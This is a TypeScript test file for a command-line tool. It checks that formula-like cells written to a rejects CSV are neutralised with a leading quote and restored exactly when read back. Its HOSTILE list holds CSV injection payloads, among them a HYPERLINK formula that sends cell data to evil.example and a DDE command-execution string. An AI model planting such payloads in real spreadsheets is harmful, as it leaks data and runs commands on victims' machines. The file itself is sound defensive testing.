import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterEach, describe, expect, it } from 'vitest';
import { startServer, type Reply } from './helpers/localServer.js';
import { runCli } from './helpers/memoryIo.js';
import { tempDir } from './helpers/tempDir.js';

const env = { COLLECT_API_KEY: 'sk_test_formula-key-0123456789' };
const closers: (() => Promise<void>)[] = [];
afterEach(async () => {
  while (closers.length) await closers.pop()!();
});

async function service(reply: Reply) {
  const server = await startServer(() => reply);
  closers.push(server.close);
  return server;
}

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  `=cmd|' /C calc'!A0`,
  '+1+1',
  '@SUM(A1:A9)',
  '-2+3',
  '\t=1',
  `'already quoted`,
  '-12.50',
];

describe('--rejects CSV and spreadsheet formulas', () => {
  it('writes formula cells with a leading quote, and reading the rejects file back restores them exactly', async () => {
    const dir = tempDir('collect-formula-');
    const rows = HOSTILE.map((reason, n) => `S${n},declined,"${reason.replace(/"/g, '""')}"`);
    writeFileSync(join(dir, 'status.csv'), `id,status,status_reason\n${rows.join('\n')}\n`);
    const refusing = await service({ status: 400, body: { error_message: '=HYPERLINK("x")' } });
    const first = await runCli(
      [
        'status',
        join(dir, 'status.csv'),
        '--base-url',
        refusing.url,
        '--no-state',
        '--rejects',
        join(dir, 'rejects.csv'),
      ],
      { env },
    );
    expect(first.code).toBe(1);
    const sent = refusing.requests.map((request) => JSON.parse(request.body).status_reason as string);
    expect(sent.sort()).toEqual([...HOSTILE].sort());

    const written = readFileSync(join(dir, 'rejects.csv'), 'utf8');
    // No cell of the file starts with a formula character (plain numbers such as -12.50 excepted).
    const cells = (parse(written) as string[][]).flat();
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell) && cell !== '-12.50')).toEqual([]);
    expect(written).toContain(`'=cmd|' /C calc'!A0`);
    expect(written).toContain(`,''already quoted,`);

    const accepting = await service({ status: 200, body: { message: 'ok' } });
    const again = await runCli(
      ['status', join(dir, 'rejects.csv'), '--base-url', accepting.url, '--no-state'],
      { env },
    );
    expect(again.code).toBe(0);
    const resent = accepting.requests.map(
      (request) => JSON.parse(request.body) as { id: string; status_reason: string },
    );
    expect(resent.map((body) => body.status_reason).sort()).toEqual([...HOSTILE].sort());
  });

  it("leaves a user's own CSV alone: a cell starting with ' is sent as it is", async () => {
    const dir = tempDir('collect-formula-');
    writeFileSync(join(dir, 'status.csv'), "id,status,status_reason\nA,declined,'quoted\n");
    const accepting = await service({ status: 200, body: { message: 'ok' } });
    const result = await runCli(
      ['status', join(dir, 'status.csv'), '--base-url', accepting.url, '--no-state'],
      { env },
    );
    expect(result.code).toBe(0);
    expect(JSON.parse(accepting.requests[0]!.body)).toEqual({
      id: 'A',
      status: 'declined',
      status_reason: "'quoted",
    });
  });
});
